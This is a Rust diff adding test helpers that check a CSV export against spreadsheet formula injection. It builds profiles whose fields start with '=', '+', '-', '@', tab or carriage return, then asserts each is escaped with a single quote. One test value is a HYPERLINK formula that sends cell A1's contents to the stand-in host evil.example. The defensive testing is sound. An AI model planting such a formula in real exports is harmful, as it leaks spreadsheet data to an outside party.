@@ -279,6 +279,55 @@ impl Profile {
     }
 }
 
+/// Profiles whose keys and addresses start like spreadsheet formulas, all refused (none is
+/// an address).
+pub fn formula_profiles() -> Vec<Profile> {
+    let p = |id: &str, email: &str| Profile::new(id, email, "Eve", "Mallory", "Iași", "RO", 900.0);
+    vec![
+        p(
+            "=1+1",
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")",
+        ),
+        p("+SUM(1)", "+SUM(1)"),
+        p("-2+3", "@SUM(1)"),
+        p("@cmd", "-2+3"),
+        p("\tTAB", "\t=1+1"),
+        p("\rCR", "\r=1+1"),
+    ]
+}
+
+/// Checks a CSV of run errors: no cell starts like a spreadsheet formula, and the formula
+/// profiles' keys and addresses are there, each behind a single quote.
+pub fn assert_spreadsheet_safe(csv_text: &str) {
+    let mut r = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv_text.as_bytes());
+    let mut cells = Vec::new();
+    for rec in r.records() {
+        let rec = rec.expect("a CSV record");
+        for cell in rec.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would evaluate: {cell:?} in\n{csv_text}"
+            );
+            cells.push(cell.to_string());
+        }
+    }
+    for want in [
+        "'=1+1",
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")",
+        "'+SUM(1)",
+        "'-2+3",
+        "'@SUM(1)",
+        "'@cmd",
+    ] {
+        assert!(
+            cells.iter().any(|c| c == want),
+            "{want:?} in the CSV:\n{csv_text}"
+        );
+    }
+}
+
 pub const HIGH_VALUE_TAG: &str = "High value";
 
 pub fn write_csv(path: &Path, profiles: &[Profile]) {
